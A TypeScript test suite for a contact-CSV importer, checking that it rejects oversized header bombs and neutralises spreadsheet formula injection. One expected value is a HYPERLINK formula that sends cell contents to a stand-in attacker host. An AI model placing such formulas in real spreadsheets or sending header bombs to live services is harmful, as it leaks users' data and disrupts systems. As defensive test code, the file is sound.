import { createReadStream } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { importContactsCsv } from '../../src/contacts/importContacts.js';
import { csvCell } from '../../src/csv/csvCell.js';
import { CsvImportError } from '../../src/csv/csvImportError.js';
import { MAX_COLUMNS } from '../../src/csv/csvReader.js';
import { MAX_RECORD_BYTES } from '../../src/csv/csvRecordFramer.js';
import { type ApiServer, startApiServer } from '../http/apiServer.js';
import { createTestDatabase, type TestDatabase } from '../support/database.js';
import { HOSTILE_DIR, loadCorpus } from './corpus.js';
import { healthzWhileInFlight } from './healthz.js';

/** What importing the file reports, or (`refused`) the error that refuses the whole file. */
type Expected =
  | {
      rows: number;
      inserted: number;
      rejected: number;
      errors: Array<{ line: number; column?: string; reasonIncludes: string }>;
    }
  | { refused: { code: string; line: number; messageIncludes: string } };

/** A header of `columns` names and one row. */
function wideCsv(columns: number): string {
  const names = ['phone', 'name', ...Array.from({ length: columns - 2 }, (_, i) => `c${i}`)];
  return `${names.join(',')}\n79990001101,Ann\n`;
}

/** The text in chunks of `chunkBytes`, as a slow upload brings it. */
function chunked(text: string, chunkBytes: number): Readable {
  const bytes = Buffer.from(text);
  const chunks: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += chunkBytes) chunks.push(bytes.subarray(i, i + chunkBytes));
  return Readable.from(chunks);
}

/** The 349 KB header that held the event loop for 102 s, and the 1,000,000 columns that held it for minutes. */
const HEADER_BOMBS = [
  {
    name: '40,000 columns',
    csv: wideCsv(40_000),
    code: 'csv_too_many_columns',
    message: `line 1: the header has 40000 columns; at most ${MAX_COLUMNS} are allowed`,
  },
  {
    name: '1,000,000 columns',
    csv: wideCsv(1_000_000),
    code: 'csv_header_unreadable',
    message: `line 1: the header row is unreadable: the line is longer than ${MAX_RECORD_BYTES} bytes`,
  },
];

describe('hostile contact CSV files', () => {
  let db: TestDatabase;
  const now = new Date('2026-11-27T07:00:00Z');

  beforeAll(async () => {
    db = await createTestDatabase();
  });
  afterAll(async () => {
    await db?.drop();
  });
  beforeEach(async () => {
    await db.sql`truncate contacts cascade`;
  });

  const cases = loadCorpus<Expected>('csv', ['.csv']);

  it.each(cases)(
    'imports the good rows of $file and reports each bad one at its line, or refuses it whole',
    async ({ file, expected }) => {
      const importing = importContactsCsv(db.sql, createReadStream(join(HOSTILE_DIR, 'csv', file)), {
        list: 'hostile',
        now,
        phoneRegion: 'RU',
      });
      const stored = async () => {
        const [row] = await db.sql<{ n: number }[]>`select count(*)::int as n from contacts`;
        return row?.n;
      };
      if ('refused' in expected) {
        await expect(importing).rejects.toMatchObject({
          code: expected.refused.code,
          line: expected.refused.line,
          message: expect.stringContaining(expected.refused.messageIncludes),
        });
        expect(await stored()).toBe(0);
        return;
      }
      const report = await importing;
      expect(report).toMatchObject({
        rows: expected.rows,
        inserted: expected.inserted,
        rejected: expected.rejected,
      });
      expect(report.errors).toHaveLength(expected.errors.length);
      expected.errors.forEach((error, i) => {
        expect(report.errors[i]).toMatchObject({
          line: error.line,
          ...(error.column ? { column: error.column } : {}),
          reason: expect.stringContaining(error.reasonIncludes),
        });
      });
      expect(await stored()).toBe(expected.inserted);
    },
  );

  it.each(HEADER_BOMBS)(
    'refuses a header of $name naming line 1, stores no contact and records the import as failed',
    async ({ csv, code, message }) => {
      const input = chunked(csv, 1024);
      const error = await importContactsCsv(db.sql, input, { list: 'hostile', now, phoneRegion: 'RU' }).catch(
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(CsvImportError);
      expect(error).toMatchObject({ code, line: 1, message });
      const [counts] = await db.sql<{ contacts: number; members: number }[]>`
        select (select count(*) from contacts)::int as contacts, (select count(*) from list_members)::int as members`;
      expect(counts).toEqual({ contacts: 0, members: 0 });
      const [record] = await db.sql<{ status: string; error: string }[]>`
        select status, error from imports order by id desc limit 1`;
      expect(record).toEqual({ status: 'failed', error: message });
    },
  );

  it('keeps formula cells as text and neutralises them whenever it writes them to a CSV', async () => {
    await importContactsCsv(
      db.sql,
      createReadStream(join(HOSTILE_DIR, 'csv', 'contacts-formula-injection.csv')),
      {
        now,
        phoneRegion: 'RU',
      },
    );
    const rows = await db.sql<{ name: string; attributes: { note: string } }[]>`
      select name, attributes from contacts order by phone`;
    expect(rows.map((row) => row.name)).toEqual([
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '@SUM(A1:A9)',
    ]);
    for (const row of rows) {
      for (const value of [row.name, row.attributes.note]) {
        expect(csvCell(value).replace(/^"/, '')).toMatch(/^'/);
      }
    }
  });
});

describe('hostile contact CSV files over the HTTP API', () => {
  let db: TestDatabase;
  let server: ApiServer;

  beforeAll(async () => {
    db = await createTestDatabase();
    server = await startApiServer(db);
  });
  afterAll(async () => {
    await server?.close();
    await db?.drop();
  });

  it.each(HEADER_BOMBS)(
    'answers /healthz within a second while refusing a header of $name, and stores no contact',
    async ({ csv, code, message }) => {
      const { bomb, healthzMs } = await healthzWhileInFlight(server, () =>
        server.call<{ error: { code: string; message: string } }>('POST', '/api/v1/contacts/import', {
          body: csv,
          contentType: 'text/csv',
        }),
      );
      expect(healthzMs).toBeLessThan(1_000);
      expect({ status: bomb.status, error: bomb.body.error }).toEqual({
        status: 400,
        error: expect.objectContaining({ code, message }),
      });
      const [row] = await db.sql<{ n: number }[]>`select count(*)::int as n from contacts`;
      expect(row?.n).toBe(0);
    },
  );
});
